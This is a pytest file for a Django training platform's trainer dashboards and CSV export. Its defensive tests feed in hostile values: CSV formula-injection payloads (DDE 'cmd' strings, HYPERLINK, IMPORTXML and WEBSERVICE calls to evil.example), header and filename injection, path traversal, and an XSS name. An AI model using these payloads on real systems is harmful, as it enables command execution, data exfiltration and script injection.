"""What trainers and managers see of their learners, the same table as a file, and the learner's view of that view."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from courses.assessment.models import Attempt
from courses.authoring.publishing import publish
from courses.dashboards.attention import QUIET, AttentionReason
from courses.dashboards.queries import learners_on
from courses.dashboards.states import summary_of
from courses.learning.actions import enrol, submit_attempt
from courses.learning.models import Enrolment, LessonRecord
from courses.library.models import Course
from courses.models import AuditEvent, CohortMembership, ExtraAttempt
from courses.people.actions import assign_course, join_cohort, start_cohort
from courses.people.models import Assignment, Extension, User
from tests.conftest import Cast, answer_all, begin_quiz, given, learn, person
from tests.test_access import other_course, rows


def page(name: str, cast: Cast, *more: object) -> str:
    return reverse(f"courses:{name}", args=[cast.cohort.key, *more])


def joined(cast: Cast, *names: str) -> list[User]:
    """These people, in Tess's cohort."""
    people = [person(name) for name in names]
    for one in people:
        join_cohort(one, cast.cohort, timezone.now())
    return people


def take_quiz(user: User, course: Course, *, right: bool) -> Attempt:
    attempt = begin_quiz(user, course)
    answer_all(user, attempt, right=right)
    return submit_attempt(user, attempt.key, timezone.now())


def seen(user: User, ago: timedelta) -> None:
    """As if this person joined, and was last seen, so long ago."""
    then = timezone.now() - ago
    CohortMembership.objects.filter(user=user).update(joined_at=then)
    Enrolment.objects.filter(user=user).update(enrolled_at=then)
    LessonRecord.objects.filter(enrolment__user=user).update(seen_at=then)


def file_of(client: Client, cast: Cast) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: header, then a row a learner."""
    data = client.get(page("cohort-csv", cast, "tiny")).content
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def names_in(text: str, *names: str) -> list[str]:
    """The names in the order in which the page's table or list has them."""
    return sorted(
        (name for name in names if f">{name}<" in text), key=lambda name: text.index(f">{name}<")
    )


def test_it_works(cast, sign_in):
    """The table names who never started, and their record has one press to remind them."""
    table = sign_in(cast.tess).get(page("cohort-progress", cast, "tiny")).content.decode()
    assert "Never started" in table
    assert page("learner", cast, "tiny", cast.ana.key) in table
    record = sign_in(cast.tess).get(page("learner", cast, "tiny", cast.ana.key)).content.decode()
    assert page("send-nudge", cast, "tiny", cast.ana.key) in record


def test_who_never_started_comes_first_in_the_table_and_its_file(cast, course, sign_in):
    joined(cast, "Zoe", "Bea", "Cai")
    learn(User.objects.get(name="Bea"), course, lessons=1)
    learn(cast.ana, course)
    take_quiz(cast.ana, course, right=True)
    tess = sign_in(cast.tess)

    table = tess.get(page("cohort-progress", cast, "tiny")).content.decode()
    assert names_in(table, "Ana", "Bea", "Cai", "Zoe") == ["Cai", "Zoe", "Ana", "Bea"]
    assert [row[0] for row in file_of(tess, cast)[1:]] == ["Cai", "Zoe", "Ana", "Bea"]


@pytest.mark.parametrize(
    ("has_begun", "tries", "ago", "due", "needs"),
    [
        (False, 0, 0, None, [AttentionReason.NEVER_STARTED]),
        (False, 0, 0, 8, [AttentionReason.NEVER_STARTED]),
        (False, 0, 0, 1, [AttentionReason.DUE_SOON, AttentionReason.NEVER_STARTED]),
        (False, 0, 0, -1, [AttentionReason.OVERDUE, AttentionReason.NEVER_STARTED]),
        (True, 0, 0, None, []),
        (True, 0, 0, 8, []),
        (True, 0, 0, 6, [AttentionReason.DUE_SOON]),
        (True, 0, 0, -1, [AttentionReason.OVERDUE]),
        (True, 0, 13, None, []),
        (True, 0, 15, None, [AttentionReason.QUIET]),
        (True, 0, 15, -1, [AttentionReason.OVERDUE, AttentionReason.QUIET]),
        (True, 1, 0, None, []),
        (True, 2, 0, None, [AttentionReason.NO_ATTEMPTS]),
        (True, 2, 0, -1, [AttentionReason.NO_ATTEMPTS, AttentionReason.OVERDUE]),
    ],
)
def test_why_a_learner_needs_the_trainer(cast, course, has_begun, tries, ago, due, needs):
    """Begun or not, quizzes failed, days since last seen, days to the due moment (None: no date)."""
    now = timezone.now()
    if has_begun:
        learn(cast.ana, course, lessons=1)
    for _ in range(tries):
        take_quiz(cast.ana, course, right=False)
    if ago:
        seen(cast.ana, timedelta(days=ago))
    if due:
        Assignment.objects.filter(cohort=cast.cohort).update(due_at=now + timedelta(days=due))
    found = learners_on(
        [*Assignment.objects.filter(cohort=cast.cohort).select_related("cohort", "course")], now
    )
    assert [*found[0].attention_reasons] == needs


def test_a_learner_who_has_completed_needs_nothing_whatever_the_date(cast, course):
    learn(cast.ana, course)
    take_quiz(cast.ana, course, right=True)
    seen(cast.ana, timedelta(days=90))
    Assignment.objects.update(due_at=timezone.now() - timedelta(days=30))
    assignment = Assignment.objects.select_related("cohort", "course").get(cohort=cast.cohort)
    found = learners_on([assignment], timezone.now() + timedelta(days=400))[0]
    assert (found.attention_reasons, found.percent) == ((), 100)


def test_two_weeks_are_two_weeks_to_the_second(cast, course):
    enrolment = enrol(cast.ana, course, timezone.now())
    assignment = Assignment.objects.select_related("cohort", "course").get(cohort=cast.cohort)
    for more, needs in ((timedelta(0), ()), (timedelta(seconds=1), (AttentionReason.QUIET,))):
        found = learners_on([assignment], enrolment.enrolled_at + QUIET + more)
        assert found[0].attention_reasons == needs


def test_a_granted_attempt_takes_the_need_away_until_it_is_used(cast, course, sign_in):
    learn(cast.ana, course)
    for _ in range(2):
        take_quiz(cast.ana, course, right=False)
    tess, mine = sign_in(cast.tess), page("learner", cast, "tiny", cast.ana.key)
    assert "No attempts left" in tess.get(mine).content.decode()
    tess.post(
        page("grant-attempt", cast, "tiny", cast.ana.key, "final"),
        {"reason": "The line broke down"},
    )
    assert "No attempts left" not in tess.get(mine).content.decode()
    take_quiz(cast.ana, course, right=False)
    assert "No attempts left" in tess.get(mine).content.decode()


def test_the_figures_are_counted_from_the_rows_of_the_table(cast, course, sign_in):
    people = joined(cast, "Bea", "Cai", "Dai", "Eli")
    for one in people[:2]:
        learn(one, course, lessons=1)
    learn(people[2], course)
    take_quiz(people[2], course, right=True)
    text = re.sub(r"\s+", " ", sign_in(cast.tess).get("/cohorts/").content.decode())
    assert "5 people, 2 need you: 2 not started, 2 started or finished, 1 passed." in text
    table = sign_in(cast.tess).get(page("cohort-progress", cast, "tiny")).content.decode()
    assert "5 learners: 2 not started, 2 started, 0 finished, 1 passed." in table

    assignment = Assignment.objects.select_related("cohort", "course").get(cohort=cast.cohort)
    found = summary_of(assignment, learners_on([assignment], timezone.now()))
    assert found.people == 5
    assert [row.words for row in found.counts] == [
        "2 not started",
        "2 started",
        "0 finished",
        "1 passed",
    ]


def test_a_learner_who_left_is_counted_nowhere(cast, course, sign_in):
    learn(cast.ana, course)
    CohortMembership.objects.filter(user=cast.ana).update(left_at=timezone.now())
    tess = sign_in(cast.tess)
    assert (
        "Nobody has joined yet" in tess.get(page("cohort-progress", cast, "tiny")).content.decode()
    )
    assert len(file_of(tess, cast)) == 1


def test_a_cohort_with_two_courses_has_a_table_for_each(cast, course, tiny_content, sign_in):
    """Progress on one is not progress on the other, for the same learners."""
    publish([tiny_content[0], other_course(tiny_content[0])], timezone.now())
    other = Course.objects.get(key="other")
    assign_course(cast.tess, cast.cohort, other, None, timezone.now())
    joined(cast, "Bea")
    learn(cast.ana, other, lessons=1)
    tess = sign_in(cast.tess)
    for key, never in (("tiny", 2), ("other", 1)):
        text = tess.get(page("cohort-progress", cast, key)).content.decode()
        assert f"2 learners: {never} not started" in text
        assert names_in(text, "Ana", "Bea") == (["Ana", "Bea"] if never == 2 else ["Bea", "Ana"])
    text = sign_in(cast.ana).get("/seen-by-trainer/").content.decode()
    assert text.count('<dl class="nhsuk-summary-list">') == 2
    assert tess.get(page("cohort", cast)).content.decode().count('<dl class="figures">') == 2


def record_in(text: str) -> str:
    """The record's HTML, from the first of its lines to the last."""
    return re.search(r'<dl class="nhsuk-summary-list">.*?</dl>', text, re.S)[0]


def give_more_time(cast: Cast) -> None:
    """Ana has a week longer than the cohort, whose date has passed."""
    assignment = given(cast)
    assignment.due_at = timezone.now() - timedelta(days=1)
    assignment.save()
    Extension.objects.create(
        assignment=assignment,
        user=cast.ana,
        due_at=timezone.now() + timedelta(days=7),
        reason="Was ill",
        granted_by=cast.tess,
    )


@pytest.mark.parametrize(
    "stage",
    ["never started", "under way", "attempt open", "failed twice", "completed", "more time"],
)
def test_a_learner_sees_the_very_record_the_trainer_sees(cast, course, sign_in, stage):
    """The same HTML, byte for byte, at every stage of learning."""
    if stage != "never started":
        learn(cast.ana, course, lessons=1 if stage == "under way" else 2)
    if stage == "attempt open":
        begin_quiz(cast.ana, course)
    for _ in range({"failed twice": 2, "completed": 1}.get(stage, 0)):
        take_quiz(cast.ana, course, right=stage == "completed")
    if stage == "more time":
        give_more_time(cast)
    trainers = sign_in(cast.tess).get(page("learner", cast, "tiny", cast.ana.key)).content.decode()
    managers = sign_in(cast.mo).get(page("learner", cast, "tiny", cast.ana.key)).content.decode()
    mine = sign_in(cast.ana).get("/seen-by-trainer/").content.decode()
    assert record_in(mine) == record_in(trainers) == record_in(managers)
    assert "Ana" in record_in(mine)
    fields = re.findall(r"__key\">(.*?)</dt>", record_in(mine))
    assert ("More time" in fields) == (stage == "more time")
    assert {"Due", "State", "Lessons done", "Needs", "Last seen"} <= set(fields)


def test_the_pages_of_a_trainer_have_no_field_that_the_learner_does_not_see(cast, course, sign_in):
    """Nothing of Ana's is on any page of Tess's but what stands in the record, the table and the file: no address."""
    learn(cast.ana, course)
    take_quiz(cast.ana, course, right=False)
    tess = sign_in(cast.tess)
    for url in (
        "/cohorts/",
        *(page(name, cast, "tiny") for name in ("cohort-progress", "cohort-csv")),
    ):
        assert cast.ana.email not in tess.get(url).content.decode()
    assert (
        cast.ana.email not in tess.get(page("learner", cast, "tiny", cast.ana.key)).content.decode()
    )


def test_a_manager_sees_and_changes_nothing(cast, course, sign_in):
    learn(cast.ana, course)
    take_quiz(cast.ana, course, right=False)
    mo, before = sign_in(cast.mo), rows()
    assert "you see it as a manager" in mo.get("/cohorts/").content.decode()
    for url in (
        page("cohort", cast),
        page("cohort-progress", cast, "tiny"),
        page("learner", cast, "tiny", cast.ana.key),
    ):
        text = mo.get(url).content.decode().split("<main")[1]
        assert 'method="post"' not in text, url  # a search changes nothing
        assert cast.cohort.join_code not in text
    assert file_of(mo, cast)[1][0] == "Ana"
    for action in ("send-nudge", "grant-attempt"):
        more = ("final",) if action == "grant-attempt" else ()
        response = mo.post(page(action, cast, "tiny", cast.ana.key, *more), {"reason": "None"})
        assert response.status_code == 404
    assert rows() == before


def test_an_attempt_is_granted_with_a_reason_that_is_kept(cast, course, sign_in):
    learn(cast.ana, course)
    action = page("grant-attempt", cast, "tiny", cast.ana.key, "final")
    tess = sign_in(cast.tess)
    assert (
        "Ana has one more attempt"
        in tess.post(
            action, {"reason": " The line \r\n broke\x00 down "}, follow=True
        ).content.decode()
    )
    granted = ExtraAttempt.objects.get()
    assert (granted.user, granted.quiz_key, granted.granted_by) == (cast.ana, "final", cast.tess)
    assert granted.reason == "The line broke down"
    event = AuditEvent.objects.get(action="grant_attempt")
    assert (event.actor, event.subject) == (cast.tess, cast.ana)
    assert "broke" not in str(event.details), "the audit holds keys and counts, no free text"
    assert (
        "You may take it 3 times"
        in sign_in(cast.ana).get("/courses/tiny/quiz/final/").content.decode()
    )


@pytest.mark.parametrize("reason", ["", "   ", "\x00", "\r\n\t"])
def test_an_attempt_without_a_reason_is_not_granted(cast, course, sign_in, reason):
    before = rows()
    action = page("grant-attempt", cast, "tiny", cast.ana.key, "final")
    text = sign_in(cast.tess).post(action, {"reason": reason}, follow=True).content.decode()
    assert "Write the reason" in text
    assert rows() == before


def test_the_file_says_what_the_table_says(cast, course, sign_in):
    bea, cai = joined(cast, "Bea", "Cai")
    learn(bea, course, lessons=1)
    learn(cai, course)
    take_quiz(cai, course, right=False)
    take_quiz(cai, course, right=True)
    response = sign_in(cast.tess).get(page("cohort-csv", cast, "tiny"))
    today = timezone.localdate().isoformat()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="autumn-tiny-{today}.csv"'
    assert response.content.count(b"\r\n") == response.content.count(b"\n") == 4

    header, *body = file_of(sign_in(cast.tess), cast)
    assert header[:4] == ["Name", "Professional role", "Joined", "Needs"]
    assert header[9:12] == ["State", "Lessons done", "Lessons"]
    assert header[12:] == [
        *("First things", "Last things"),
        *(f"Final quiz: {what}" for what in ("attempts", "best marks", "of", "passed")),
        "Certificate",
        "Certificate issued",
        "Certificate withdrawn",
    ]
    found = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    assert found["Ana"]["Needs"] == "Never started"
    assert [found["Ana"][name] for name in header[4:8]] == ["", "", "", "0"]
    assert found["Ana"]["First things"] == "Not started"
    assert (found["Bea"]["First things"], found["Bea"]["Last things"]) == ("Done", "Not started")
    assert (found["Bea"]["Started"], found["Bea"]["Percent"]) == (today, "33")
    assert [found["Cai"][name] for name in header[14:-3]] == ["2", "3", "3", "yes"]
    assert (found["Cai"]["Completed"], found["Cai"]["Percent"], found["Cai"]["Needs"]) == (
        today,
        "100",
        "",
    )


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "    @x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example","Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "\x00=1+1",
    '="=1"',
    '"=1+1',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    'a","=1+1',
    "a\n=1+1",
    "a\r\n=1+1",
    "=A1;B1",
    "=SUM(A1:A9)*2",
    "+44 20 7946 0000",
    "--1",
    "=@A1",
]


@pytest.mark.parametrize("name", FORMULAS, ids=ascii)
def test_a_name_never_begins_a_cell_as_a_formula(cast, course, sign_in, name):
    """And it stays in one cell: no quote, comma or line end in it makes another."""
    if "\x00" not in name or connection.vendor == "sqlite":
        User.objects.filter(pk=cast.ana.pk).update(name=name)
    header, *body = file_of(sign_in(cast.tess), cast)
    assert [len(row) for row in body] == [len(header)]
    for cell in body[0]:
        assert not cell.lstrip(" \x00").startswith(tuple("=+-@\t\r\n＝＋－＠")), ascii(cell)
    assert "\x00" not in body[0][0]


def test_a_passed_attempt_stands_for_the_quiz_though_another_had_more_marks(cast, course, sign_in):
    failed, passed = (
        take_quiz(cast.ana, course, right=False),
        take_quiz(cast.ana, course, right=True),
    )
    Attempt.objects.filter(pk=failed.pk).update(
        earned=Decimal("2.9")
    )  # by a safety item that was wrong
    Attempt.objects.filter(pk=passed.pk).update(earned=Decimal("2.7999"))
    browser = sign_in(cast.tess)
    assert (
        "Passed, 2.79 of 3, 2 attempts"
        in browser.get(page("cohort-progress", cast, "tiny")).content.decode()
    )
    assert file_of(browser, cast)[1][-7:-3] == ["2", "2.79", "3", "yes"]
    learner = browser.get(page("learner", cast, "tiny", cast.ana.key)).content.decode()
    assert "Not passed, 2.9 of 3 marks" in learner
    assert "Passed, 2.79 of 3 marks" in learner


@pytest.mark.parametrize(
    "name", ["Siân Ŵyn-Ŷorath", "نور الهدى", 'O’Neill, Máire "Mary"', "李小龙", "Zoë 🍼", "ਗੁਰਪ੍ਰੀਤ"]
)
def test_a_name_comes_back_from_the_file_as_it_went_in(cast, sign_in, name):
    User.objects.filter(pk=cast.ana.pk).update(name=name)
    assert file_of(sign_in(cast.tess), cast)[1][0] == name


@pytest.mark.parametrize(
    "name",
    ["=cmd.csv", 'a";filename="evil.exe', "../../etc/passwd", "x\r\nSet-Cookie: a=b", "🍼", "نور"],
)
def test_the_name_of_the_file_is_plain_whatever_the_cohorts_is(cast, sign_in, name):
    cast.cohort.name = name
    cast.cohort.save()
    said = sign_in(cast.tess).get(page("cohort-csv", cast, "tiny"))["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="[a-z0-9][a-z0-9_-]*-tiny-\d{4}-\d\d-\d\d\.csv"', said
    )


def test_what_people_call_themselves_is_text_on_every_page(cast, course, sign_in):
    nasty = "<img src=x onerror=alert(1)>\"'&{{ 7|add:7 }}"
    User.objects.filter(pk__in=[cast.ana.pk, cast.tess.pk]).update(name=nasty)
    cast.cohort.name = f"{nasty[:70]} C"
    cast.cohort.save()
    learn(cast.ana, course, lessons=1)
    tess, ana = sign_in(cast.tess), sign_in(cast.ana)
    urls = ["/cohorts/", page("cohort", cast), page("cohort-progress", cast, "tiny")]
    shown = [
        tess.get(url).content.decode()
        for url in [*urls, page("learner", cast, "tiny", cast.ana.key)]
    ]
    shown += [ana.get(url).content.decode() for url in ("/", "/seen-by-trainer/", "/details/")]
    shown += [sign_in(cast.ben).get(f"/join/{cast.cohort.join_code}/").content.decode()]
    for text in shown:
        assert "<img src=x" not in text
        assert escape(nasty[:70]) in text


@pytest.mark.parametrize(
    "name", ["cohorts", "cohort", "cohort-progress", "cohort-csv", "seen-by-trainer"]
)
def test_a_page_asks_the_database_as_often_for_many_as_for_one(cast, course, sign_in, name):
    client = sign_in(cast.ana if name == "seen-by-trainer" else cast.tess)
    url = reverse("courses:cohorts") if name == "cohorts" else reverse("courses:seen-by-trainer")
    if name.startswith("cohort") and name != "cohorts":
        url = page(name, cast, *(["tiny"] if name != "cohort" else []))
    learn(cast.ana, course, lessons=1)
    asked = []
    for number in range(2):
        client.get(url)
        with CaptureQueriesContext(
            connection,
        ) as queries:
            assert client.get(url).status_code == 200
        asked.append(len(queries))
        for one in joined(cast, *(f"Learner{number}{n}" for n in range(6))):
            learn(one, course)
            take_quiz(one, course, right=True)
        for n in range(3):
            more = start_cohort(
                cast.tess,
                cast.cohort.organisation,
                f"Cohort {number}{n}",
                course,
                None,
                timezone.now(),
            )
            join_cohort(cast.ana, more, timezone.now())
    assert asked[0] == asked[1]
    assert asked[0] <= 12
